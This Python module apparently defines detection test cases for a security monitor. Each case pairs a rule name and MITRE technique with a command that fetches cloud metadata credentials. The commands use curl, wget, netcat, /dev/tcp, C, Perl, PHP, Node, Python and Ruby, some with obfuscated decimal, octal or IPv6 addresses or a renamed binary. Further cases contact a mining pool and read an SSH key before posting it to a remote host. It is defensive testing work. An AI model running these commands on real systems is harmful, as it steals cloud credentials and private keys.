"""Acts that need addresses beyond loopback: metadata endpoints by many ways of writing them, pools, distant hosts."""

from __future__ import annotations

from attacks.cases.acts.base import LOW, MEDIUM, Act
from live.programs import Language

ANSWER = "fake-answer-of-the-service"
ADDRESSES = ("169.254.169.254", "169.254.170.2", "169.254.170.23", "203.0.113.9", "fd00:ec2::254", "fd00:ec2::23")
"""What the namespace of these acts has on its loopback interface."""


def _asks(
    name: str,
    language: Language,
    text: str,
    *programs: str,
    severity: int = MEDIUM,
    rule: str = "metadata_by_foreign_program",
) -> Act:
    return Act(name, rule, "T1552.005", language, text, ANSWER, severity=severity, programs=programs)


_C = """
#include <arpa/inet.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    struct sockaddr_in6 there = {.sin6_family = AF_INET6, .sin6_port = htons(80)};
    char text[2000];
    int net = socket(AF_INET6, SOCK_STREAM, 0);
    inet_pton(AF_INET6, "WHERE", &there.sin6_addr);
    if (connect(net, (void *)&there, sizeof there)) return 1;
    dprintf(net, "GET / HTTP/1.0\\r\\n\\r\\n");
    for (long size; (size = read(net, text, sizeof text)) > 0;) write(1, text, size);
}
"""
METADATA = (
    _asks("metadata-curl", Language.BASH, "curl -s http://169.254.169.254/latest/meta-data/", "curl"),
    _asks("metadata-curl-decimal", Language.BASH, "curl -s http://2852039166/", "curl"),
    _asks("metadata-curl-octal", Language.BASH, "curl -s http://0251.0376.0252.02/", "curl"),
    _asks("metadata-curl-six", Language.BASH, "curl -gs 'http://[fd00:ec2::254]/'", "curl"),
    _asks(
        "metadata-curl-other-name",
        Language.BASH,
        "curl -s --resolve data.example.com:80:169.254.170.23 http://data.example.com/",
        "curl",
    ),
    _asks("metadata-wget", Language.BASH, "wget -qO- http://169.254.170.2/v2/credentials/x", "wget"),
    _asks("metadata-busybox", Language.BASH, "busybox wget -qO- http://169.254.169.254/", "busybox"),
    _asks("metadata-renamed", Language.BASH, "cp $(command -v curl) train && ./train -s http://169.254.170.2/", "curl"),
    _asks(
        "metadata-bash-socket",
        Language.BASH,
        r"exec 3<>/dev/tcp/169.254.170.23/80; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3",
    ),
    _asks(
        "metadata-netcat",
        Language.BASH,
        r"printf 'GET / HTTP/1.0\r\n\r\n' | nc.openbsd -q 2 169.254.169.254 80",
        "nc.openbsd",
    ),
    _asks(
        "metadata-perl",
        Language.PERL,
        r"""
use IO::Socket::INET;
my $net = IO::Socket::INET->new("169.254.169.254:80") or die;
print $net "GET / HTTP/1.0\r\n\r\n"; print <$net>;
""",
    ),
    _asks("metadata-php", Language.PHP, "<?php echo file_get_contents('http://169.254.170.2/');"),
    _asks("metadata-c-mapped-address", Language.C, _C.replace("WHERE", "::ffff:169.254.169.254")),
    _asks("metadata-c-six", Language.C, _C.replace("WHERE", "fd00:ec2::23")),
    _asks(
        "metadata-python-inline",
        Language.BASH,
        "$PYTHON -c \"import urllib.request as u; print(u.urlopen('http://169.254.170.2/').read().decode())\"",
    ),
    _asks(
        "metadata-node-inline",
        Language.BASH,
        "node -e \"require('http').get('http://169.254.169.254/', got => got.pipe(process.stdout))\"",
        "node",
    ),
    _asks(
        "metadata-python-script",
        Language.PYTHON,
        "from urllib.request import urlopen; print(urlopen('http://169.254.169.254/').read().decode())",
        severity=LOW,
        rule="metadata_by_program",
    ),
    _asks(
        "metadata-ruby-script",
        Language.RUBY,
        "require 'net/http'; puts Net::HTTP.get(URI('http://169.254.170.2/'))",
        severity=LOW,
        rule="metadata_by_program",
    ),
)
DISTANT = (
    Act(
        "pool-port",
        "pool_port",
        "T1496",
        Language.BASH,
        'exec 3<>/dev/tcp/203.0.113.9/3333 && echo \'{"method": "mining.subscribe"}\' >&3 && cat <&3',
        ANSWER,
        severity=LOW,
    ),
    Act(
        "code-reads-then-connects",
        "code_reads_credential_then_connects",
        "T1041",
        Language.PYTHON,
        """
import os
from urllib.request import Request, urlopen
text = open(os.environ["SECRET"], "rb").read()
print(urlopen(Request("http://203.0.113.9/", text)).read().decode())
""",
        ANSWER,
        secret="ssh",
    ),
)
CASES: tuple[Act, ...] = (*METADATA, *DISTANT)
